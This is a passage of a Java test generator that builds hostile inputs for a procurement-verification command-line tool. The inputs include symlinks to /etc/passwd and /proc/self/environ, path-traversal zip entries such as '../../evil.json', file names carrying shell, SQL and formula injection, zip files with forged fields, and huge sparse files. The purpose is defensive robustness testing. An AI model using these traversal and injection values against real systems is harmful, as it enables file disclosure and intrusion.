                "\u202efdp.pdf", "\u001b[2J.pdf", "a\nb.pdf", "x".repeat(251) + ".pdf", "B\u00fcro.PDF", "=1+1.pdf")) {
            Files.write(names.resolve(name), many);
        }
        add("folder: PDFs under odd names", "PDF_SEVERAL", "f/pdf-names");
        for (byte[] name : new byte[][] {
            "B\u00fcro.pdf".getBytes(Charset.forName("windows-1252")),
                    "r\u00e9sum\u00e9.pdf".getBytes(Charset.forName("IBM437")),
            utf8("\u202efdp.pdf"), utf8("x".repeat(300) + ".pdf")
        }) {
            Zip old = new Zip();
            old.flags = name[0] == (byte) 0xe2 ? 0x800 : 0;
            zip(
                    "PDF named " + new String(name, StandardCharsets.US_ASCII).substring(0, 6),
                    "PDF_SEVERAL",
                    old.add(name, 0, many, many, many.length).end());
        }
    }

    private static byte[] commented(byte[] good) {
        byte[] end = Arrays.copyOfRange(good, good.length - 22, good.length);
        byte[] out = concat(good, end);
        out[good.length - 2] = 22;
        return out;
    }

    private static byte[] damaged(byte[] good) {
        byte[] out = good.clone();
        for (int i = 200; i < 260; i++) {
            out[i] ^= 0x55;
        }
        return out;
    }

    private static byte[] crowd(int count) {
        Zip zip = new Zip();
        byte[] small = utf8("{}");
        for (int i = 0; i < count; i++) {
            zip.add(i + ".json", small);
        }
        return zip.end();
    }

    private void sparse(String name, long size) throws IOException {
        try (RandomAccessFile file = new RandomAccessFile(folder.resolve(name).toFile(), "rw")) {
            file.setLength(size);
        }
    }

    // ---- folders and odd files

    private void folders() throws IOException {
        Path f = Files.createDirectories(folder.resolve("f"));
        Path loop = Files.createDirectories(f.resolve("loop"));
        Files.createSymbolicLink(loop.resolve("again"), loop);
        Files.createSymbolicLink(loop.resolve("passwd.json"), Path.of("/etc/passwd"));
        Files.createSymbolicLink(loop.resolve("zero.json"), Path.of("/dev/zero"));
        Files.createSymbolicLink(
                loop.resolve("bid.json"), folder.resolve("harbour.bundle.json").toAbsolutePath());
        items.add(new Item("folder: links only", check("f/loop"), List.of(2), ""));
        Path pipe = Files.createDirectories(f.resolve("pipe"));
        if (made("mkfifo", pipe.resolve("bid.json"))) {
            items.add(new Item("folder: a pipe", check("f/pipe"), List.of(2), ""));
        }
        Path deep = f.resolve("deep");
        Files.createDirectories(Path.of(deep + "/d".repeat(60)));
        add("folder: 60 deep", FORMAT, "f/deep");
        Path names = Files.createDirectories(f.resolve("names"));
        for (String name : List.of(
                "a\nb.json",
                "\u001b[2J.json",
                "\u202egpj.json",
                "-rf.json",
                "--home.json",
                " .json",
                "=1+1.json",
                "<b>.json",
                "'; drop table.json",
                "%n%s.json",
                "\u200b.json",
                ".json",
                "CON.json")) {
            Files.write(names.resolve(name), utf8("{}"));
        }
        Files.createDirectories(names.resolve("folder.json"));
        add("folder: odd names", FORMAT, "f/names");
        Path crowd = Files.createDirectories(f.resolve("crowd"));
        for (int i = 0; i < 3_000; i++) {
            Files.write(crowd.resolve(i + ".json"), utf8("{\"type\":" + i + "}"));
        }
        add("folder: 3,000 files of rubbish", FORMAT, "f/crowd");
        Path spread = Files.createDirectories(f.resolve("spread"));
        byte[] archive = crowd(1_000);
        for (int i = 0; i < 20; i++) {
            Files.write(spread.resolve(i + ".zip"), archive);
            try (RandomAccessFile large =
                    new RandomAccessFile(spread.resolve("l" + i + ".zip").toFile(), "rw")) {
                large.setLength(100L << 20);
            }
        }
        add("folder: archives of two gigabytes", FORMAT, "f/spread");
        Path locked = Files.createDirectories(f.resolve("locked/inner"));
        Files.write(f.resolve("locked/a.json"), utf8("{}"));
        if (!locked.toFile().setReadable(false, false)) {
            throw new IOException("cannot lock " + locked);
        }
        add("folder: one that may not be read", FORMAT, "f/locked");
        Files.createDirectories(f.resolve("empty"));
        items.add(new Item("folder: empty", check("f/empty"), List.of(2), ""));
        sparse("f/huge.json", 20L << 30);
        add("file: twenty gigabytes", FORMAT, "f/huge.json");
        for (String device :
                List.of("/dev/zero", "/dev/urandom", "/dev/null", "/proc/self/maps", "/proc/self/environ")) {
            if (Files.exists(Path.of(device))) {
                add("file: " + device, FORMAT, device);
            }
        }
        items.add(new Item("file: not there", check("f/none.json"), List.of(2), ""));
        items.add(new Item("file: a name with NUL", check("f/\u0000.json"), List.of(2), ""));
        items.add(new Item("file: a name too long", check("f/" + "n".repeat(5_000) + ".json"), List.of(2), ""));
        List<String> same = new ArrayList<>(check());
        for (int i = 0; i < 500; i++) {
            same.add("harbour.jwt");
        }
        items.add(new Item("one file 500 times", same, NOT_ACCEPTED, ""));
    }

    private static boolean made(String program, Path path) throws IOException {
        try {
            return new ProcessBuilder(program, path.toString()).start().waitFor() == 0;
        } catch (InterruptedException e) {
            throw new IllegalStateException(e);
        }
    }

    // ---- what else is read

    private void tenders() throws IOException {
        Json.Obj good = World.tender().json();
        Map<String, byte[]> bad = new LinkedHashMap<>();
        for (List<String> path : paths(good)) {
            if (path.size() <= 2) {
                bad.put(
                        "null at " + String.join(".", path),
                        CanonicalJson.bytes(changed(good, path, Optional.of(_ -> new Json.Null()))));
            }
        }
        for (String name : good.members().keySet()) {
            if (!List.of("level", "nonce", "value").contains(name)) {
                bad.put("without " + name, CanonicalJson.bytes(changed(good, List.of(name), Optional.empty())));
            }
        }
        bad.put("an unknown member", CanonicalJson.bytes(with(good, "href", new Json.Str(trap))));
        for (String time : List.of(
                "2026-02-30T12:00:00+00:00",
                "2026-11-27T25:00:00+00:00",
                "2026-11-27T12:00:00",
                "2026-11-27T12:00:00+99:00",
                "+999999999-12-31T23:59:59+00:00",
                "tomorrow",
                "1795780800")) {
            bad.put("deadline " + time, CanonicalJson.bytes(with(good, "deadline", new Json.Str(time))));
        }
        bad.put("a nonce of 10,000 characters", CanonicalJson.bytes(with(good, "nonce", new Json.Str(""))));
        bad.putAll(badTexts());
        for (Map.Entry<String, byte[]> t : bad.entrySet()) {
            String file = "h/" + files++ + ".tender";
            Files.write(folder.resolve(file), t.getValue());
            items.add(new Item(
                    "tender: " + t.getKey(),
                    check("--tender", file, "bids/harbour/certificate.presentation.json"),
                    List.of(1, 2, 3),
                    ""));
            items.add(new Item("policy: " + t.getKey(), List.of("policy", "show", file), List.of(2), ""));
        }
    }

    /// Notices of other systems, out of which a tender policy is made. They may be incomplete, since options say
    /// the rest: what may come out is a policy or a refusal.
    private void notices() throws IOException {
        Json.Obj good = StrictJson.parseObject(utf8("""
                {"ocid":"ocds-h6vhtk-0a1b2c","releases":[{"ocid":"ocds-h6vhtk-0a1b2c","date":"2026-11-01T00:00:00Z",
                "buyer":{"id":"GB-PPON-PBCD-1234-FGHJ","name":"Northgate"},
                "parties":[{"id":"GB-PPON-PBCD-1234-FGHJ","name":"Northgate","roles":["buyer"],
                  "identifier":{"scheme":"GB-PPON","id":"PBCD-1234-FGHJ"},"additionalIdentifiers":[]}],
                "tender":{"id":"t","title":"Catering","tenderPeriod":{"endDate":"2026-11-27T12:00:00.000Z"},
                  "techniques":{"hasFrameworkAgreement":true},
                  "selectionCriteria":{"criteria":[{"type":"economic","description":"social accreditation"}]},
                  "items":[{"id":"1","relatedLot":"1","classification":{"scheme":"CPV","id":"55500000"}}],
                  "lots":[{"id":"1","title":"North","value":{"amountGross":450000,"currency":"GBP"}}]}}]}
                """.replaceAll("\n\\s*", "")), WIDE);
        Map<String, byte[]> bad = new LinkedHashMap<>();
        for (List<String> path : paths(good)) {
            String where = String.join(".", path);
            for (Map.Entry<String, Json> other : Map.<String, Json>of(
                            "null", new Json.Null(),
                            "an address", new Json.Str(trap),
                            "a number", new Json.Num(-1),
                            "much", new Json.Str("\u202e\u001b[2J" + "\ud83d\ude00".repeat(10_000)))
                    .entrySet()) {
                bad.put(
                        other.getKey() + " at " + where,
                        CanonicalJson.bytes(changed(good, path, Optional.of(_ -> other.getValue()))));
            }
        }
        StringBuilder lots = new StringBuilder("{\"ocid\":\"o\",\"tender\":{\"lots\":[{\"id\":\"0\"}");
        StringBuilder releases = new StringBuilder("{\"releases\":[{\"ocid\":\"o\"}");
        StringBuilder records = new StringBuilder();
        for (int i = 0; i < 100_000; i++) {
            lots.append(",{\"id\":\"").append(i).append("\"}");
            releases.append(",{\"ocid\":\"").append(i).append("\",\"tender\":{\"id\":\"t\"}}");
            records.append(i < 500 ? "{\"records\":[" : "");
        }
        bad.put("100,000 lots", utf8(lots + "]}}"));
        bad.put("100,000 procurements", utf8(releases + "]}"));
        bad.put("records in records", utf8(records + "{}" + "]}".repeat(500)));
        bad.put("sixteen megabytes", utf8("{\"ocid\":\"" + "x".repeat(16 << 20) + "\"}"));
        bad.putAll(badTexts());
        for (Map.Entry<String, byte[]> b : bad.entrySet()) {
            String file = "h/" + files++ + ".ocds";
            Files.write(folder.resolve(file), b.getValue());
            items.add(new Item(
                    "OCDS: " + b.getKey(),
                    List.of("policy", "init", "--no-input", "--from-ocds", file, "--use", "award-criterion", "-o", "-"),
                    List.of(0, 2),
                    ""));
        }
    }

    /// The government's debarment list, in the buyer's own file. A bad one changes nothing.
    private void debarments() throws IOException {
        Json.Obj good = StrictJson.parseObject(utf8("""
                {"type":"touchstone-debarment-list","version":1,"published":"2026-11-02","source":"gov",
                "entries":[{"name":"Acorn Ltd","otherNames":["Acorn"],"reason":"fraud",
                "identifiers":[{"scheme":"GB-COH","id":"01234567"}],"ground":"mandatory","from":"2026-01-01",
                "until":"2028-01-01"}]}
                """.replaceAll("\n\\s*", "")), WIDE);
        Map<String, byte[]> bad = new LinkedHashMap<>();
        for (List<String> path : paths(good)) {
            bad.put(
                    "null at " + String.join(".", path),
                    CanonicalJson.bytes(changed(good, path, Optional.of(_ -> new Json.Null()))));
            bad.put(
                    "a list at " + String.join(".", path),
                    CanonicalJson.bytes(changed(
                            good, path, Optional.of(v -> new Json.Arr(List.of(new Json.Arr(List.of(v))))))));
        }
        StringBuilder entries =
                new StringBuilder("{\"type\":\"touchstone-debarment-list\",\"version\":1,\"entries\":[{}");
        bad.put("800,000 entries", utf8(entries + ",{}".repeat(800_000) + "]}"));
        bad.put("sixteen megabytes", utf8("{\"source\":\"" + "x".repeat(16 << 20) + "\"}"));
        bad.putAll(badTexts());
        for (Map.Entry<String, byte[]> b : bad.entrySet()) {
            String file = "h/" + files++ + ".debarment";
            Files.write(folder.resolve(file), b.getValue());
            items.add(new Item(
                    "debarment list: " + b.getKey(),
                    List.of("trust", "debarment", file, "--home", "home"),
                    List.of(2),
                    ""));
        }
    }

    /// Checks that were recorded, and then altered: none comes to its result again.
    private void records() throws IOException {
        byte[] good = Files.readAllBytes(Path.of("testdata/records/0.1.0/bids.record.zip"));
        Map<String, byte[]> members = new LinkedHashMap<>();
        try (var in = new java.util.zip.ZipInputStream(new java.io.ByteArrayInputStream(good))) {
            for (var e = in.getNextEntry(); e != null; e = in.getNextEntry()) {
                members.put(e.getName(), in.readAllBytes());
            }
        }
        Files.write(folder.resolve("h/good.record.zip"), good);
        items.add(new Item(
                "good record", List.of("record", "verify", "h/good.record.zip", "--home", "none"), List.of(0), ""));
        Map<String, byte[]> bad = new LinkedHashMap<>();
        for (int i = 0; i < 12; i++) {
            bad.put("cut after " + i + " twelfths", Arrays.copyOf(good, good.length * i / 12));
        }
        for (String name : members.keySet()) {
            byte[] content = members.get(name);
            byte[] flipped = content.clone();
            flipped[content.length / 2] ^= 1;
            bad.put("another bit in " + name, record(members, name, flipped));
            bad.put("nothing in " + name, record(members, name, new byte[0]));
            bad.put(
                    "a megabyte more in " + name,
                    record(members, name, Arrays.copyOf(content, content.length + (1 << 20))));
            Map<String, byte[]> without = new LinkedHashMap<>(members);
            without.remove(name);
            bad.put("without " + name, record(without, "", new byte[0]));
        }
        bad.put("a name that climbs", record(members, "../../evil.json", utf8(trap)));
        bad.put("a member more", record(members, "inputs/evil.json", utf8(trap)));
        bad.put("100 megabytes of nothing", record(members, "inputs/zeros", new byte[100 << 20]));
        for (Map.Entry<String, byte[]> text : badTexts().entrySet()) {
            bad.put("text, " + text.getKey(), text.getValue());
            bad.put("record.json, " + text.getKey(), record(members, "record.json", text.getValue()));
        }
        for (Map.Entry<String, HostilePdfs.Case> pdf :
                HostilePdfs.all(bid, utf8(token), trap).entrySet()) {
            bad.put(pdf.getKey(), pdf.getValue().content());
        }
        for (Map.Entry<String, byte[]> b : bad.entrySet()) {
            String file = "h/" + files++ + ".record";
            Files.write(folder.resolve(file), b.getValue());
            items.add(new Item(
                    "record: " + b.getKey(),
                    List.of("record", "verify", file, "--home", "none", "--format", "json"),
                    List.of(1, 2, 3),
                    ""));
            if (b.getKey().startsWith("record.json")) {
                items.add(new Item("record shown: " + b.getKey(), List.of("record", "show", file), List.of(2, 3), ""));
            }
        }
    }

    private static byte[] record(Map<String, byte[]> members, String name, byte[] content) throws IOException {
        Map<String, byte[]> all = new LinkedHashMap<>(members);
        if (!name.isEmpty()) {
            all.put(name, content);
        }
        return zip(all);
    }

    private void trustLists() throws IOException {
        Json.Obj good = World.world().trust.json();
        Map<String, byte[]> bad = new LinkedHashMap<>();
        for (List<String> path : paths(good)) {
            bad.put(
                    "null at " + String.join(".", path),
                    CanonicalJson.bytes(changed(good, path, Optional.of(_ -> new Json.Null()))));
            bad.put(
                    "empty at " + String.join(".", path),
                    CanonicalJson.bytes(changed(good, path, Optional.of(_ -> new Json.Str("")))));
        }
        Json.Obj payload = StrictJson.parseObject(World.world().trust.payload(), WIDE);
        for (List<String> path : paths(payload)) {
            byte[] changed = CanonicalJson.bytes(changed(payload, path, Optional.of(_ -> new Json.Str(trap))));
            bad.put(
                    "another payload: " + String.join(".", path),
                    CanonicalJson.bytes(with(good, "payload", new Json.Str(Base64Url.encode(changed)))));
        }
        List<Json> signatures = new ArrayList<>();
        for (int i = 0; i < 101; i++) {
            signatures.addAll(good.objects("signatures").subList(0, 1));
        }
        bad.put("101 signatures", CanonicalJson.bytes(with(good, "signatures", new Json.Arr(signatures))));
        bad.put(
                "one governor three times",
                CanonicalJson.bytes(with(good, "signatures", new Json.Arr(signatures.subList(0, 3)))));
        bad.putAll(badTexts());
        for (Map.Entry<String, byte[]> t : bad.entrySet()) {
            String file = "h/" + files++ + ".trust";
            Files.write(folder.resolve(file), t.getValue());
            items.add(new Item(
                    "trust list: " + t.getKey(),
                    List.of(
                            "trust",
                            "import",
                            file,
                            "--home",
                            "fresh",
                            "--no-input",
                            "--fingerprint",
                            World.world().trust.fingerprint()),
                    List.of(1, 2),
                    ""));
        }
    }

    private void packs() throws IOException {
        String[] good = new String(World.world().pack(), StandardCharsets.UTF_8).split("\n");
        Map<String, byte[]> bad = new LinkedHashMap<>();
        for (int i = 0; i < good.length; i++) {
            List<String> lines = new ArrayList<>(List.of(good));
            lines.set(i, good[i].replaceFirst("\"(proof|checkpoint|payload)\":\"", "\"$1\":\"x"));
            bad.put("line " + (i + 1) + " spoilt", utf8(String.join("\n", lines) + "\n"));
        }
        bad.put("no header", utf8(String.join("\n", List.of(good).subList(1, good.length))));
        bad.put("two headers", utf8(good[0] + "\n" + good[0].replace("register", "other") + "\n"));
        bad.put("a line of 300 KB", utf8(good[0] + "\n{\"a\":\"" + "x".repeat(300_000) + "\"}\n"));
        bad.put("an unknown line", utf8(good[0] + "\n{\"shell\":{\"run\":\"id\"}}\n"));
        bad.putAll(badTexts());
        for (Map.Entry<String, byte[]> p : bad.entrySet()) {
            String file = "h/" + files++ + ".jsonl";
            Files.write(folder.resolve(file), p.getValue());
            items.add(sync("pack: " + p.getKey(), file));
        }
        sparse("h/huge.jsonl", 6L << 30);
        items.add(sync("pack: six gigabytes of nothing", "h/huge.jsonl"));
        items.add(sync("pack: /dev/zero", "/dev/zero"));
        StringBuilder lists = new StringBuilder(good[0]).append('\n');
        String list = good[1];
        while (lists.length() < 40 << 20) {
            lists.append(list).append('\n');
        }
        Files.writeString(folder.resolve("h/lists.jsonl"), lists);
        items.add(sync("pack: forty megabytes of trust lists", "h/lists.jsonl"));
    }

    private static Item sync(String name, String file) {
        return new Item(name, List.of("sync", "--file", file, "--home", "home"), List.of(1, 2, 3), "");
    }

    /// The other verbs over the same material: they may print what they read, and nothing else may happen.
    private void others() throws IOException {
        List<Item> before = List.copyOf(items);
        int i = 0;
        for (Item item : before) {
            String last = item.arguments().get(item.arguments().size() - 1);
            if (item.arguments().get(0).equals("verify")
                    && last.startsWith("h/")
                    && !last.endsWith(".zip")
                    && i++ % 4 == 0) {
                items.add(new Item("inspect: " + item.name(), List.of("inspect", last), List.of(0, 2), ""));
                items.add(new Item(
                        "present: " + item.name(),
                        List.of(
                                "present",
                                last,
                                "--key",
                                "harbour.jwk",
                                "--tender",
                                "tender.json",
                                "--at",
                                "2026-11-22T14:57:00Z",
                                "-o",
                                "-"),
                        // A supplier may present what is addressed to it; the buyer's check judges.
                        List.of(0, 2),
                        ""));
            }
        }
        for (Map.Entry<String, byte[]> text : badTexts().entrySet()) {
            String file = "h/" + files++ + ".jwk";
            Files.write(folder.resolve(file), text.getValue());
            items.add(new Item(
                    "key: " + text.getKey(),
                    List.of(
                            "present",
                            "harbour.bundle.json",
                            "--key",
                            file,
                            "--tender",
                            "tender.json",
                            "--at",
                            "2026-11-22T14:57:00Z",
                            "-o",
                            "-"),
                    List.of(2),
                    ""));
        }
    }

    /// An archive written field by field, so that fields can lie.
    private static final class Zip {
        private final ByteArrayOutputStream local = new ByteArrayOutputStream();
        private final ByteArrayOutputStream central = new ByteArrayOutputStream();
        private int count;
        private int flags = 0x800;
        private byte[] first = new byte[0];

        static int directoryAt(byte[] archive) {
            return ByteBuffer.wrap(archive).order(ByteOrder.LITTLE_ENDIAN).getInt(archive.length - 6);
        }

        Zip add(String name, byte[] content) {
            return add(utf8(name), 0, content, content, content.length);
        }

        Zip deflated(String name, byte[] content) {
            Deflater deflater = new Deflater(9, true);
            deflater.setInput(content);
            deflater.finish();
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            byte[] buffer = new byte[8192];
            while (!deflater.finished()) {
                out.write(buffer, 0, deflater.deflate(buffer));
            }
            deflater.end();
            return add(utf8(name), 8, content, out.toByteArray(), content.length);
        }

        Zip add(byte[] name, int method, byte[] content, byte[] packed, int stated) {
            int at = local.size();
            local.writeBytes(fields(0x04034b50, method, content, packed.length, stated, name.length, 30)
                    .array());
            local.writeBytes(name);
            local.writeBytes(packed);
            central(name, method, content, packed.length, stated, at);
            if (first.length == 0) {
                first = content;
            }
            return this;
        }

        /// Another name over the data of the first file.
        Zip again(String name) {
            central(utf8(name), 0, first, first.length, first.length, 0);
            return this;
        }

        private void central(byte[] name, int method, byte[] content, int packed, int stated, int at) {
            ByteBuffer head = ByteBuffer.allocate(46 + name.length).order(ByteOrder.LITTLE_ENDIAN);
            byte[] common =
                    fields(0, method, content, packed, stated, name.length, 30).array();
            head.putInt(0x02014b50).putShort((short) 20).put(common, 4, 26);
            head.putShort((short) 0)
                    .putShort((short) 0)
                    .putShort((short) 0)
                    .putInt(0)
                    .putInt(at);
            central.writeBytes(head.put(46, name).array());
            count++;
        }

        private ByteBuffer fields(int lead, int method, byte[] content, int packed, int stated, int name, int length) {
            CRC32 crc = new CRC32();
            crc.update(content);
            ByteBuffer b = ByteBuffer.allocate(length).order(ByteOrder.LITTLE_ENDIAN);
            b.putInt(lead)
                    .putShort((short) 20)
                    .putShort((short) flags)
                    .putShort((short) method)
                    .putInt(0);
            return b.putInt((int) crc.getValue())
                    .putInt(packed)
                    .putInt(stated)
                    .putShort((short) name)
                    .putShort((short) 0);
        }

        byte[] end() {
            ByteBuffer b = ByteBuffer.allocate(22).order(ByteOrder.LITTLE_ENDIAN);
            b.putInt(0x06054b50).putInt(0).putShort((short) count).putShort((short) count);
            b.putInt(central.size()).putInt(local.size()).putShort((short) 0);
            return concat(local.toByteArray(), central.toByteArray(), b.array());
        }
    }
}
